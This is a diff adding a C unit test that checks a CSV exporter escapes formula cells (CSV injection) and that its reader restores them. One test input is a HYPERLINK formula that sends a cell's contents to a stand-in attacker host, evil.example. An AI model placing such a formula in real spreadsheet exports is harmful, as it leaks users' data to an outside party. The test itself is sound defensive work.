@@ -20,6 +20,7 @@
 
 #include "base/arena.h"
 #include "base/buf.h"
+#include "base/csv.h"
 #include "base/idset.h"
 #include "base/jsonw.h"
 #include "base/log.h"
@@ -1348,6 +1349,61 @@ static void idset_limits(void **state)
 	idset_release(&s);
 }
 
+/* Cells a spreadsheet would run as formulas are written behind an
+ * apostrophe (CSV injection); numbers are not; the reader takes the mark
+ * off, so what is exported imports back as it was. */
+struct csv_got {
+	char cells[8][128];
+	size_t count;
+};
+static int csv_keep(void *arg, const char *const *fields, size_t count, int64_t record)
+{
+	(void)record;
+	struct csv_got *g = arg;
+	for (size_t i = 0; i < count && i < 8; i++)
+		snprintf(g->cells[i], sizeof(g->cells[i]), "%s", fields[i]);
+	g->count = count;
+	return 0;
+}
+
+static void csv_formulas(void **state)
+{
+	(void)state;
+	const char *cells[] = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+			       "+1+2",
+			       "-5",
+			       "-12.5",
+			       "@SUM(A1)",
+			       "plain, text",
+			       "\tcmd",
+			       "-"};
+	struct buf b;
+	buf_init(&b, 4096);
+	assert_int_equal(csv_record(&b, cells, 8), SW_OK);
+	assert_string_equal(buf_cstr(&b),
+			    "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",\"'+1+2\",-5,-12.5,"
+			    "\"'@SUM(A1)\",\"plain, text\",\"'\tcmd\",\"'-\"\r\n");
+	struct csv c;
+	csv_init(&c);
+	struct csv_got got = {0};
+	struct sw_error err;
+	sw_error_clear(&err);
+	assert_int_equal(csv_feed(&c, buf_cstr(&b), b.len, true, csv_keep, &got, &err), SW_OK);
+	assert_int_equal(got.count, 8);
+	for (size_t i = 0; i < 8; i++)
+		assert_string_equal(got.cells[i], cells[i]);
+	/* an apostrophe before anything else is the cell's own */
+	buf_reset(&b);
+	assert_int_equal(csv_record(&b, (const char *[]){"'quoted'", "'5"}, 2), SW_OK);
+	csv_release(&c);
+	csv_init(&c);
+	assert_int_equal(csv_feed(&c, buf_cstr(&b), b.len, true, csv_keep, &got, &err), SW_OK);
+	assert_string_equal(got.cells[0], "'quoted'");
+	assert_string_equal(got.cells[1], "'5");
+	csv_release(&c);
+	buf_release(&b);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -1373,6 +1429,7 @@ int main(void)
 		cmocka_unit_test(rfc3339_parse),
 		cmocka_unit_test(clocks),
 		cmocka_unit_test(misc),
+		cmocka_unit_test(csv_formulas),
 		cmocka_unit_test(search_words),
 		cmocka_unit_test(log_lines),
 		cmocka_unit_test(idset_empty_and_order),
